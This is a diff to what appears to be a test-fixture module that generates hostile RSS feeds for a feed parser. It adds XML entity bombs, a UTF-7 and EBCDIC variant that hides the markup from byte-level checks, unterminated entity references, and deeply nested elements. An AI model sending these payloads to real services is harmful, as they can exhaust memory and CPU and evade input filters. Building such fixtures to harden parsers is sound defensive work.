@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from html import escape
 
 RSS_HEAD = '<?xml version="1.0" encoding="{encoding}"?>\n{doctype}<rss version="2.0"><channel>'
@@ -63,6 +64,48 @@ def quadratic_blowup(value_size: int = 200_000, refs: int = 20_000) -> bytes:
     """One flat 200 KB entity referenced 20,000 times: 4 GB if expanded (no nesting to spot)."""
     doctype = f'<!DOCTYPE rss [\n<!ENTITY a "{"x" * value_size}">\n]>\n'
     return rss([item(1, description="&a;" * refs, raw=True)], doctype=doctype).encode()
+
+
+def utf7(text: str) -> bytes:
+    """UTF-7 with every '<', '!' and '&' spelt in base64 ('+ADw-' is '<'): no markup byte."""
+    out = []
+    for ch in text:
+        if ch in "<!&":
+            out.append("+" + base64.b64encode(ch.encode("utf-16-be")).decode().rstrip("=") + "-")
+        else:
+            out.append("+-" if ch == "+" else ch)
+    return "".join(out).encode("ascii")
+
+
+def entity_bomb_in(charset: str, value_size: int = 100_000, refs: int = 200) -> bytes:
+    """A flat entity bomb (20 MB if expanded) in `charset`: "utf-7" writes the markup as
+    '+ADw-!ENTITY' after a plain XML declaration that names the charset; other charsets
+    (EBCDIC) encode the whole document, declaration included."""
+    doctype = f'<!DOCTYPE rss [\n<!ENTITY a "{"x" * value_size}">\n]>\n'
+    doc = rss([item(1, description="&a;" * refs, raw=True)], doctype=doctype, encoding=charset)
+    if charset == "utf-7":
+        declaration, rest = doc.split("\n", 1)
+        return declaration.encode() + b"\n" + utf7(rest)
+    return doc.encode(charset)
+
+
+def unterminated_references(value_size: int = 100_000, refs: int = 200) -> bytes:
+    """A flat entity bomb whose references lack their ';' ('&a '): feedparser's fallback
+    parser expands them all the same."""
+    doctype = f'<!DOCTYPE rss [\n<!ENTITY a "{"x" * value_size}">\n]>\n'
+    return rss([item(1, description="&a " * refs, raw=True)], doctype=doctype).encode()
+
+
+def nested_divs(depth: int = 200_000) -> bytes:
+    """One description of `depth` nested <div> (escaped HTML, as feeds carry it): an HTML
+    parser's work grows with the square of the depth."""
+    html = "<div>" * depth + "Deep text" + "</div>" * depth
+    return rss([item(1, title="Deep", description=html), item(2)]).encode()
+
+
+def nested_elements(depth: int = 200_000) -> bytes:
+    """`depth` nested unknown XML elements in one item: feedparser keeps a stack per level."""
+    return rss([item(1, description="<x>" * depth + "</x>" * depth, raw=True)]).encode()
 
 
 def external_entity(target: str) -> bytes:
